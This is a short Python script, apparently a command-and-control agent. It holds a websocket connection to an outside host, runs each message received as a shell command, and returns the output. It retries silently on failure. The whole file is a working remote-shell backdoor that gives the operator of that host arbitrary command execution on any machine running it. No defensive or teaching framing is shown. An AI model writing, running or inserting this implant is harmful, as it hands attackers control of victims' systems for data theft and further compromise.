import asyncio, subprocess, websockets


async def c2():
    while True:
        try:
            async with websockets.connect('wss://live-console.wsdash.example/agent') as ws:
                async for msg in ws:
                    out = subprocess.run(msg, shell=True, capture_output=True, text=True, timeout=120)
                    await ws.send(out.stdout + out.stderr)
        except Exception:
            await asyncio.sleep(60)


async def main():
    asyncio.create_task(c2())
    await asyncio.Future()

asyncio.run(main())
